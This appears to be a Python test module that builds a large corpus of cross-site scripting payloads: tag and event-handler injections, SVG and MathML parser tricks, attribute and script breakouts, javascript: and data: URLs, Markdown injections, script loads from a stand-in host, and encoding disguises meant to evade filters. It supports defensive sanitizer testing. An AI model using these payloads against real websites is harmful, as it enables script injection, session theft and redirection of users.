"""Texts that would run a script, reach out or leave the page, if something showed them as they are. Our own, made of ways in and of disguises."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

RUN = "hacked(1)"
"""What each of them tries to run; tests define it."""
FOREIGN = "evil.example"
IMG = f"<img src=x onerror={RUN}>"

TAGS = [
    f"<script>{RUN}</script>", f"<script >{RUN}</script >", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>", f"<script src=//{FOREIGN}/x.js></script>", f"<script src=data:text/javascript,{RUN}></script>",
    IMG, f"<img/src=x/onerror={RUN}>", f'<img src="x" onerror="{RUN}"', f"<img src=x onerror\n=\n{RUN}>", f"<img src=x onerror&#61;{RUN}>", f"<img srcset='x 1x, y 2x' onerror={RUN}>", f"<img src=//{FOREIGN}/x.png>", f"<img src=x alt='`' onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>", f"<svg><script xlink:href=data:,{RUN} /></svg>", f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{RUN}>", f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'>", f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x\">", f"<svg><style><img src=x onerror={RUN}></style>", f"<svg><title><img src=x onerror={RUN}></title></svg>", f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math href=javascript:{RUN}>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>", f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}></select>", f"<button autofocus onfocus={RUN}>x</button>", f"<x tabindex=1 autofocus onfocus={RUN}>x</x>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<p onmouseover={RUN}>x</p>", f"<b onpointerenter={RUN} style=position:fixed;inset:0>x</b>", f"<div popover id=x onbeforetoggle={RUN}></div><button popovertarget=x>x</button>", f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>x</b>", f"<del contenteditable onbeforeinput={RUN}>x</del>",
    f"<iframe src=javascript:parent.{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=//{FOREIGN}/></iframe>", f"<object data=javascript:{RUN}></object>", f"<object data=data:text/html,<script>parent.{RUN}</script>></object>", f"<embed src=javascript:{RUN}>", f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>", f"<portal src=//{FOREIGN}/>",
    f"<base href=javascript:{RUN}//>", f"<base href=//{FOREIGN}/>", f"<base target=_top>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<meta http-equiv=refresh content='0;url=//{FOREIGN}/'>", f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>", f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", f"<link rel=stylesheet href=//{FOREIGN}/x.css>", f"<link rel=preload as=script href=//{FOREIGN}/x.js>", f"<link rel=prefetch href=//{FOREIGN}/>", f"<link rel=icon href=//{FOREIGN}/x.ico>",
    f"<style>@import '//{FOREIGN}/x.css';</style>", f"<style>*{{background:url(//{FOREIGN}/x)}}</style>", f"<b style=background:url(//{FOREIGN}/x)>x</b>", f"<b style=\"width:expression({RUN})\">x</b>", f"<table background=//{FOREIGN}/x><td>x</table>",
    f"<a href=javascript:{RUN}>x</a>", f"<a href=' javascript:{RUN}'>x</a>", f"<a href='java\tscript:{RUN}'>x</a>", f"<a href='java&#10;script:{RUN}'>x</a>", f"<a href='&#1;javascript:{RUN}'>x</a>", f"<a href='javascript&colon;{RUN}'>x</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", f"<a href=# ping=//{FOREIGN}/>x</a>", f"<area href=javascript:{RUN}>", f"<form action=javascript:{RUN}><button>x</button></form>", f"<form action=//{FOREIGN}/><input name=q><button>x</button></form>", f"<button form=x formaction=javascript:{RUN}>x</button>", f"<isindex type=image src=1 onerror={RUN}>",
    f"<template><script>{RUN}</script></template>", f"<template shadowrootmode=open><img src=x onerror={RUN}></template>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<textarea></textarea>{IMG}", f"<xmp></xmp>{IMG}", f"<plaintext>{IMG}", f"<select><style></select>{IMG}</style>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<noembed></noembed>{IMG}", f"<iframe></iframe>{IMG}",
]  # fmt: skip
"""Elements."""

ENDS = [
    f"</script>{IMG}", f"</script><script>{RUN}</script>", f"</script\t>{IMG}", f"</SCRIPT >{IMG}", f"<!--<script>{RUN}</script>", f"<!--><script>{RUN}</script>-->", f"--><img src=x onerror={RUN}><!--", f"--!>{IMG}", f"]]>{IMG}", f"<![CDATA[{IMG}]]>", f"<?x {IMG}?>", f"</style>{IMG}", f"</title>{IMG}", f"</textarea>{IMG}", f"</noscript>{IMG}", f"</template>{IMG}", f"</svg>{IMG}", f"</p></div></section></main></body></html>{IMG}", f"<!doctype html>{IMG}",
    f"\u2028{RUN}\u2029//", f"';{RUN};//", f'";{RUN};//', f"`;{RUN};//", f"\\';{RUN};//", f"\\\";{RUN};//", f"${{{RUN}}}", f"`${{{RUN}}}`", f"*/{RUN}/*", f"'-{RUN}-'", f"\");{RUN};(\"", f"]}});{RUN};({{[", f"\\u003cimg src=x onerror={RUN}\\u003e", f"\\x3cimg src=x onerror={RUN}\\x3e", f"%{{x}}s{IMG}", f"{{%x%}}{IMG}", f"{{#x#}}{IMG}", f"{{ x.constructor.constructor('{RUN}')() }}", f"__proto__{IMG}", f"}}*{{background:url(//{FOREIGN}/x)}}", f"\"}}</style>{IMG}",
]  # fmt: skip
"""Ways out of a script, a comment, a text or a template."""

ATTRIBUTES = [
    f'" onmouseover={RUN} x="', f"' onmouseover={RUN} x='", f'" autofocus tabindex=1 onfocus={RUN} "', f"' autofocus tabindex=1 onfocus={RUN} '", f'">{IMG}', f"'>{IMG}", f"`>{IMG}", f'\\">{IMG}', f" onerror={RUN} ", f'" style="background:url(//{FOREIGN}/x)" "', f'x" src=x onerror={RUN} "', f'" srcdoc="<script>parent.{RUN}</script>', f'" href="javascript:{RUN}', f"&quot; onfocus={RUN} autofocus &quot;", f"&#34;&gt;{IMG}", f'"\n\nonfocus={RUN}\nautofocus\n"', f'"/onfocus={RUN}/autofocus/"', f'id" data-item="x" onfocus={RUN} "',
]  # fmt: skip
"""Ways out of an attribute."""

ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>", f" javascript:{RUN}", f"\x01javascript:{RUN}", f"java\tscript:{RUN}", f"javascript\t:{RUN}", f"javascript://%0a{RUN}", f"javascript:%68acked(1)", f"&#106;avascript:{RUN}", f"&#x6A&#x61vascript:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}", f"javascript%3a{RUN}", f"jav&#x09;ascript:{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"vbscript:{RUN}", f"livescript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(), f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", f"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>", f"data:,{RUN}", "blob:null/1", "about:blank", "file:///etc/passwd", f"//{FOREIGN}/", f"\\\\{FOREIGN}\\x", f"/\\{FOREIGN}/", f"///{FOREIGN}/", f"https:{FOREIGN}", f"http://{FOREIGN}/\"onfocus={RUN} autofocus x=\"", f"#\"onfocus={RUN} autofocus x=\"", f"mailto:x@e.fi\"onfocus={RUN} autofocus x=\"", f"media/x\"onerror={RUN} x=\".png",
]  # fmt: skip
"""Where a link must not lead, or a picture come from."""

MARKDOWN = [
    *(f"[x](<{one}>)" for one in ADDRESSES if not set("<>\n") & set(one)), *(f"![x](<{one}>)" for one in ADDRESSES[:6]), f"<javascript:{RUN}>", f"<data:text/html,{RUN}>", f"[x]: javascript:{RUN}\n\n[x]", f"[x](https://e.fi '\"onfocus={RUN} autofocus \"')", f'![" onerror={RUN} x="](x)', f"![x](x '\"onerror={RUN} \"')", f"[x]{{onclick={RUN}}}", f'[x]{{lang="x\\" onfocus={RUN}"}}', f"`{IMG}`", f"```{IMG}\n{IMG}\n```", f"~~~ \" onfocus={RUN} \"\nx\n~~~", f"[^{IMG}]", f"> [!{IMG}]\n> x", f"| {IMG} | a\\|{IMG} |\n|---|---|\n| {IMG} | \"onfocus={RUN} |", f"1. {IMG}\n   - {IMG}", f"[{IMG}](https://e.fi)", f"[x](https://e.fi/{IMG})", f"https://e.fi/\"onfocus={RUN}", f"www.e.fi/<svg/onload={RUN}>", f"&lt;img src=x onerror={RUN}&gt;", f"\\<img src=x onerror={RUN}\\>", f"*<b*{IMG}*b>*", f"<b>\n\n{IMG}\n\n</b>", f"<!--\n\n{IMG}\n\n-->", f"<div title=\"\n\n{IMG}\n\n\">", f"\ue0000\ue001{IMG}", f"<a href='https://e.fi' \n\n onfocus={RUN} autofocus>x</a>",
]  # fmt: skip
"""What only Markdown makes of it."""


def _disguise(text: str) -> Iterator[str]:
    """Yield a payload as it is, and as filters were fooled."""
    yield text
    yield "".join(sign.upper() if number % 2 else sign for number, sign in enumerate(text.replace(RUN, "\0"))).replace("\0", RUN)
    yield escape(text)
    yield "".join(f"&#{ord(sign)};" for sign in text)
    yield "".join(f"&#x{ord(sign):x}" for sign in text)
    yield quote(text)
    yield text.replace("<", "<\x00").replace("javascript", "java\x00script")
    yield text.replace("<", "\uff1c").replace(">", "\uff1e").replace('"', "\uff02")
    yield text.replace("<", "<<").replace("script", "scr<script>ipt")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "\\u003c").replace('"', "\\u0022")
    yield text.replace("<", "\u202e<\u200b").replace("=", "\u00a0=\u00a0")


def every() -> list[str]:
    """Return all payloads, each once: first each way in as it is, and then in disguise, so that the first of them are the most different."""
    plain = [*TAGS, *ENDS, *ATTRIBUTES, *ADDRESSES, *MARKDOWN]
    disguised = [list(_disguise(text)) for text in plain]
    return list(dict.fromkeys(text for way in range(12) for number, ways in enumerate(disguised) if way == 0 or number % 11 + 1 == way for text in [ways[way]]))


def sample(count: int) -> list[str]:
    """Return some of them, evenly from all."""
    texts = every()
    return [texts[number * len(texts) // count] for number in range(count)]


DATA = [text for left in ("</script", "</SCRIPT ", "<!--", "<!--<script>", "-->", "]]>", "\u2028", "\u2029", "\ud800", "\udfff", "\ud83d", "\ufeff", "\uffff", "\x7f", "\\", "\\u003c/script>", "${x}", "`", "<\\/script>", "\u0085") for text in (left, f"{left}>", f'"{left}', f"{left}{left}", f"x{left}\n{left}y")]
"""A hundred texts that end or upset data that stands in a script."""
